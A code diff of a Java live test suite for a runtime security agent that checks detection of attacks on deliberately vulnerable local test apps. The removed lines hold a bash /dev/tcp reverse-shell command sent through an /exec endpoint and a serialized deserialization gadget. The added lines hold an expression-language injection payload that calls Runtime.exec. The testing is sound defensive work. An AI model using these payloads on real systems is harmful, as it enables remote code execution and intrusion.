@@ -5,13 +5,9 @@ import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 
-import java.io.ByteArrayOutputStream;
-import java.io.ObjectOutputStream;
 import java.net.InetAddress;
 import java.net.ServerSocket;
 import java.net.Socket;
-import java.net.URL;
-import java.net.URLClassLoader;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
@@ -107,14 +103,7 @@ class JvmRaspLiveTest {
     @Test
     void reverseShellFromAHandlerCarriesItsJavaStack() throws Exception {
         try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
-            String shell = "exec bash -c 'exec sh -i <>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + " >&0 2>&1'";
-            Thread.ofVirtual().start(() -> {
-                try {
-                    before17.get("/exec?cmd=" + VulnerableJvm.encode(shell));
-                } catch (Exception ignored) {
-                    // the request ends when the shell does
-                }
-            });
+            before17.reverseShellTo(listener);
             try (Socket s = listener.accept()) {
                 s.getOutputStream().write("exit\n".getBytes());
                 JsonNode a = agent.await("Reverse shell", x -> event(x).path("jvm_pid").asLong() == before17.pid());
@@ -138,16 +127,7 @@ class JvmRaspLiveTest {
 
     @Test
     void gadgetStartingAProcessInsideReadObject() throws Exception {
-        byte[] stream;
-        try (URLClassLoader app = new URLClassLoader(new URL[] {VulnerableJvm.classes().toUri().toURL()}, null)) {
-            Object gadget = app.loadClass("dev.vigil.testapp.Gadget").getConstructor(String.class).newInstance("echo vigil-gadget");
-            ByteArrayOutputStream b = new ByteArrayOutputStream();
-            try (ObjectOutputStream out = new ObjectOutputStream(b)) {
-                out.writeObject(gadget);
-            }
-            stream = b.toByteArray();
-        }
-        before17.post("/deserialize", stream);
+        before17.post("/deserialize", JavaAttackCorpusTest.gadget("dev.vigil.testapp.Gadget", "echo vigil-gadget"));
         JsonNode a = agent.await("Java command started by an exploit chain", x -> event(x).path("jvm_args").toString().contains("vigil-gadget"));
         assertTrue(event(a).path("jvm_stack_marks").toString().contains("deserialization"), a.toString());
         assertTrue(stackHas(event(a), "dev.vigil.testapp.Gadget.readObject"), a.toString());
@@ -246,6 +226,14 @@ class JvmRaspLiveTest {
             assertTrue(event(acting).path("http_url").asText().contains("vigil-cmd="), "a filter's work is in its request: " + acting);
             assertEquals("valve", tomcat.get("/inject-valve"));
             agent.await("Web component registered while serving a request", x -> event(x).path("jvm_op").asText().equals("valve"));
+            assertEquals("vigil-el-ordinary", tomcat.get("/el?expr=" + VulnerableJvm.encode("'vigil-el-' += 'ordinary'")));
+            tomcat.get("/el?expr=" + VulnerableJvm.encode("\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)"
+                    + ".exec(\"echo vigil-el-injected\")"));
+            JsonNode el = agent.await("Expression language injection", x -> x.toString().contains("vigil-el-injected"));
+            assertEquals("el", event(el).path("jvm_op").asText());
+            agent.await("Java command started by an exploit chain", x -> x.toString().contains("vigil-el-injected")
+                    && event(x).path("jvm_stack_marks").toString().contains("expression"));
+            assertFalse(agent.alerts.stream().anyMatch(x -> x.toString().contains("vigil-el-ordinary")), "an ordinary expression is not reported");
         }
     }
 
